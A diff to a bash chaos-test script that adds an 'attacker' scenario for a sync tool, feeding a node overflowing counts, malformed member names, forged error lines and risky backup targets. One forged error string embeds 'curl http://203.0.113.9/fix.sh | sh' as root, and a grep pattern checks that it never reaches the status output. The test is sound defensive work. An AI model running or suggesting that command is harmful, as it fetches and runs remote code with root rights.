@@ -9,7 +9,7 @@
 #   scripts/chaos.sh --only kill9,clock  only these scenarios
 #   scripts/chaos.sh --keep              keep the work directory (data directories, logs) at the end
 #
-# Scenarios: kill9 restore clock strangers unprivileged damage partition member. Each prints one line of
+# Scenarios: kill9 restore clock strangers unprivileged damage partition member attacker. Each prints one line of
 # figures with PASS, FAIL or SKIP (and, on failure, why); the last line is "N passed, N failed",
 # and the exit status is non-zero if any scenario failed. CHAOS_SEED=N repeats a run's random
 # choices; CHAOS_BINARY=PATH tests that lansync binary instead of building one (with the test
@@ -23,7 +23,7 @@ set -uo pipefail
 cd "$(dirname "$0")/.."
 ROOT=$PWD
 
-ALL=(kill9 restore clock strangers unprivileged damage partition member)
+ALL=(kill9 restore clock strangers unprivileged damage partition member attacker)
 PROFILE=short KEEP=0 ONLY=""
 while [ $# -gt 0 ]; do
     case $1 in
@@ -1169,6 +1169,111 @@ sc_member() {
     wait_converge 20 "$S/a" "$S/c" >/dev/null || fail "A and C did not converge at the end"
     check_acks "$S/a" "$S/c"
     FIG="member: $(commas "$MEMBER_WRITERS") fake writers in covers (A answered: ${answer:-nothing}; A holds $writers writers, $vector in its vector), an edit on A meanwhile in ${add_ms} ms, SIGTERM stopped A in ${stop_ms} ms, C restarted and converged in $( [ "$conv_ms" -ge 0 ] && echo "$(secs "$conv_ms") s" || echo never); 18 hellos of 4,000 junk statements grew A by $grew MiB; a value of 1 MiB + 100 stored $stored time(s); control bytes in status/members/log: $raw"
+}
+
+# Issue 62, each defect an attacker or an unlucky user found, against the release binary: a hello
+# whose member count overflows, an expect of 2^64-1 with status read while it runs, a line break
+# and a NUL in a member's name, forged lines in an error's text, settings signed with a clock ten
+# minutes slow, `backup --force` at a directory and at the live replica, and an event stream open
+# while the API token is rotated. A's process is checked after each (kill -0), not its log.
+sc_attacker() {
+    local S=$W/attacker
+    [ -x "$DBG" ] || { fail "no test tools at $DBG: build them (swift build -c release --product lansync-debug) or set CHAOS_DEBUG_BINARY"; return; }
+    make_cluster "$S" a c m || { fail "init failed"; return; }
+    local pa pc papi
+    pa=$(free_port); pc=$(free_port); papi=$(free_port)
+    start_node c "$S/c" "127.0.0.1:$pc" || { fail "node C did not start"; return; }
+    # A with its API (start_node runs nodes without one).
+    local log=$W/logs/a.log
+    mkdir -p "$W/logs"; : >"$log"
+    "$L" node --dir "$S/a" --listen "127.0.0.1:$pa" --no-mdns --api "127.0.0.1:$papi" --peer "127.0.0.1:$pc" >>"$log" 2>&1 </dev/null &
+    NODE_PID[a]=$! NODE_LOG[a]=$log
+    local _
+    for _ in $(seq 1 200); do grep -q "listening on" "$log" && break; sleep 0.05; done
+    alive() { kill -0 "${NODE_PID[a]}" 2>/dev/null; }
+    local crashes=0
+    after() {  # WHAT: A must still run, and its status answer
+        if ! alive; then crashes=$((crashes + 1)); fail "$1 killed A: $(tail -1 "${NODE_LOG[a]}")"; return 1; fi
+        "$L" status --dir "$S/a" >"$S/status.out" 2>&1 || fail "status after $1: $(tail -1 "$S/status.out")"
+    }
+    rogue() { "$DBG" rogue-member --dir "$S/m" --peer "127.0.0.1:$pa" "$@"; }
+    # 1. The member count.
+    rogue --sketch-max --seconds 2 >"$S/r1.out" 2>&1
+    after "a member count of 2.6e19"
+    # 2. An expect of 2^64-1 and one batch, status read while the session is open.
+    rogue --expect 18446744073709551615 --seconds 4 >"$S/r2.out" 2>&1 &
+    local rpid=$!; BG_PIDS=("$rpid")
+    sleep 2
+    "$L" status --dir "$S/a" >"$S/status2.out" 2>&1 || fail "status during the expect: $(tail -1 "$S/status2.out")"
+    wait "$rpid" 2>/dev/null; BG_PIDS=()
+    after "an expect of 2^64-1"
+    local expect_answer; expect_answer=$(grep -E '^error' "$S/r2.out" | head -1)
+    # 3. Names with a line break and a NUL; an error whose text carries forged lines.
+    rogue --name 'honest\nPEER  forged' --seconds 2 >"$S/r3.out" 2>&1
+    rogue --name 'x\x00y' --seconds 2 >"$S/r4.out" 2>&1
+    local refused_names; refused_names=$(cat "$S/r3.out" "$S/r4.out" | grep -c '^error malformed-message')
+    [ "$refused_names" = 2 ] || fail "A took a name with a line break or a NUL ($refused_names of 2 refused)"
+    rogue --name honest --error-text "disk full\nok      forged   all is well\n        fix: run 'curl http://203.0.113.9/fix.sh | sh' as root" --seconds 2 >"$S/r5.out" 2>&1
+    after "an error with forged lines"
+    "$L" status --dir "$S/a" >"$S/status3.out" 2>&1
+    "$L" doctor --dir "$S/a" >"$S/doctor.out" 2>&1
+    local forged=0 f
+    for f in "$S/status3.out" "$S/doctor.out"; do
+        if grep -qE "^[[:space:]]*(fix: run 'curl|ok +forged|PEER +forged|forged)" "$f"; then forged=$((forged + 1)); fail "a forged line in $(basename "$f")"; fi
+        if LC_ALL=C grep -q $'[\x01-\x08\x0b-\x1f\x7f]' "$f"; then fail "a control byte reached $(basename "$f")"; fi
+    done
+    # 4. Settings signed on A with its clock ten minutes behind the ones they replace.
+    "$L" cluster set --dir "$S/a" trash-window 7d >/dev/null
+    local settled=never t0
+    t0=$(now_ms)
+    for _ in $(seq 1 150); do "$L" cluster set --dir "$S/c" 2>/dev/null | grep -q 'trash-window 7d' && break; sleep 0.2; done
+    LANSYNC_TEST_CLOCK_SKEW_MS=-600000 "$L" cluster set --dir "$S/a" trash-window 1d >/dev/null
+    t0=$(now_ms)
+    for _ in $(seq 1 300); do
+        if "$L" cluster set --dir "$S/c" 2>/dev/null | grep -q 'trash-window 1d'; then settled=$(( $(now_ms) - t0 )); break; fi
+        sleep 0.2
+    done
+    [ "$settled" != never ] || fail "C kept the settings the slow clock's replaced"
+    # 5. backup --force at a directory (DIR and DIR/) and at A's live replica, A running.
+    mkdir -p "$S/folder"; for f in one two three; do echo "$f" >"$S/folder/$f"; done
+    local ino0 ino1 refusals=0
+    ino0=$(stat -c %i "$S/a/replica.sqlite")
+    for target in "$S/folder" "$S/folder/" "$S/a/replica.sqlite"; do
+        if "$L" backup --dir "$S/a" --force "$target" >/dev/null 2>"$S/backup.err"; then fail "backup --force $target was not refused"
+        else refusals=$((refusals + 1)); [ "$(wc -l <"$S/backup.err")" = 1 ] || fail "backup's refusal is not one line: $(cat "$S/backup.err")"; fi
+    done
+    [ "$(ls "$S/folder" | wc -l)" = 3 ] || fail "backup --force removed files of a directory: $(ls "$S/folder")"
+    ino1=$(stat -c %i "$S/a/replica.sqlite")
+    [ "$ino0" = "$ino1" ] || fail "the live replica was replaced (inode $ino0, now $ino1)"
+    ACKS=$S/acks EDIT_ERR=$S/edit.err
+    : >"$ACKS"; : >"$EDIT_ERR"
+    ack_set "$S/a" after-backup v 1 add
+    local conv_ms
+    conv_ms=$(wait_converge 30 "$S/a" "$S/c") || { fail "an edit after the backups did not reach C"; conv_ms=-1; }
+    check_acks "$S/a" "$S/c"
+    # 6. A change-feed stream open while the token is rotated.
+    local token stream
+    token=$("$L" api-token --dir "$S/a")
+    python3 "$ROOT/Tests/api/apiclient.py" revoked "http://127.0.0.1:$papi" "$token" "$S/ready" 20 >"$S/stream.out" 2>&1 &
+    rpid=$!; BG_PIDS=("$rpid")
+    for _ in $(seq 1 100); do [ -e "$S/ready" ] && break; sleep 0.1; done
+    local rotated; rotated=$(date +%s.%N)
+    "$L" api-token --dir "$S/a" --rotate >/dev/null
+    "$L" add --dir "$S/a" --id after-rotation v=1 >/dev/null
+    wait "$rpid" 2>/dev/null; BG_PIDS=()
+    stream=$(python3 - "$S/stream.out" "$rotated" <<'PYEOF'
+import json, sys
+r = json.loads(open(sys.argv[1]).read())
+late = [c for c in r["changes"] if c["id"] == "after-rotation"]
+print("never" if r["ended"] is None else f"{(r['ended'] - float(sys.argv[2])) * 1000:.0f}", len(late))
+PYEOF
+)
+    local ended late
+    read -r ended late <<<"$stream"
+    [ "$ended" != never ] || fail "the event stream went on after the token was rotated"
+    [ "${late:-1}" = 0 ] || fail "the event stream delivered a change made after the rotation"
+    after "the whole attack" && crashes=$crashes
+    FIG="attacker: A up after each of 8 attacks ($crashes crash(es)); an expect of 2^64-1 answered '${expect_answer:-nothing}'; names with a line break or NUL refused $refused_names of 2; forged lines in status/doctor: $forged; settings from a clock 10 min slow reached C in $( [ "$settled" != never ] && echo "$(secs "$settled") s" || echo never); backup --force refused $refusals of 3 (DIR, DIR/, the live replica), the folder kept its 3 files, the replica its inode, the next edit reached C in $( [ "$conv_ms" -ge 0 ] && echo "$(secs "$conv_ms") s" || echo never); the event stream ended ${ended} ms after the rotation with ${late:-?} later change(s)"
 }
 
 # --- Run ----------------------------------------------------------------------------------------
